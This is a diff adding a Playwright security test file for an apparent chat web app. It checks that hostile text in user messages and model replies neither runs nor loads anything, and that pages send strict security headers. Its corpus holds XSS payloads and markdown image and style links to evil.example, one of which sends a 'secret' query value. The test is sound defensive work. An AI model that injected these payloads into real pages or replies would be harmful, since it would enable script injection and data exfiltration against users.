@@ -1,0 +1,67 @@
+"""What a hostile text can do in a real browser: nothing."""
+
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.browser.conftest import send, settled
+
+pytestmark = [pytest.mark.browser, pytest.mark.security]
+
+CORPUS = """<script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload="window.__xss=3">
+[a](javascript:window.__xss=4) <javascript:window.__xss=5> [b][r] ![i](https://evil.example/?q=secret)
+![d](data:text/html,<script>window.__xss=6</script>) <a href="jav&#x09;ascript:window.__xss=7">c</a>
+`<script>window.__xss=8</script>` $\\text{<img src=x onerror=window.__xss=9>}$
+<iframe srcdoc="<script>parent.__xss=10</script>">
+
+[r]: javascript:window.__xss=11
+
+| <img src=x onerror=window.__xss=12> | b |
+|---|---|
+| <style>@import url(https://evil.example/x.css)</style> | <div style="background:url(https://evil.example/y)"> |
+
+```html" onmouseover="window.__xss=13
+<script>window.__xss=14</script>
+```"""
+
+
+def test_case_63_and_64_hostile_text_runs_nothing_and_loads_nothing(tab: Page) -> None:
+    """As a person's text and as a model's reply; the fixture refuses every request to another origin."""
+    send(tab, f"[[echo]] {CORPUS}")
+    settled(tab)
+    for link in tab.locator("article a").all():
+        href = link.get_attribute("href") or ""
+        assert href.split(":")[0] in {"http", "https", "mailto", ""}, href
+    assert tab.locator("article script, article iframe, article img, article svg[onload], article style").count() == 0
+    tab.reload()
+    expect(tab.locator("article.from-model")).to_have_count(1)
+    assert tab.evaluate("() => window.__xss") is None
+
+
+def test_hostile_stream_events_are_text_or_nothing(tab: Page) -> None:
+    """Case 66."""
+    send(tab, "[[hostile]]")
+    settled(tab)
+    assert tab.evaluate("() => window.__xss") is None
+
+
+def test_a_hostile_title_and_name_are_text(tab: Page) -> None:
+    send(tab, '[[tokens:2]] "><img src=x onerror=window.__xss=1>')
+    settled(tab)
+    tab.reload()
+    assert tab.locator("nav img").count() == 0
+    assert tab.evaluate("() => window.__xss") is None
+
+
+@pytest.mark.parametrize("path", ["/login", "/register", "/c/new", "/nothing-here"])
+def test_case_67_pages_refuse_framing_and_carry_their_policies(open_tab: Callable[..., Page], path: str) -> None:
+    page = open_tab("/health", signed_in=path == "/c/new")
+    answer = page.goto(path)
+    assert answer is not None
+    headers = answer.headers
+    assert "frame-ancestors 'none'" in headers["content-security-policy"]
+    assert "unsafe" not in headers["content-security-policy"]
+    assert headers["x-content-type-options"] == "nosniff"
+    assert headers["cross-origin-opener-policy"] == "same-origin"
+    assert headers["referrer-policy"] == "same-origin"
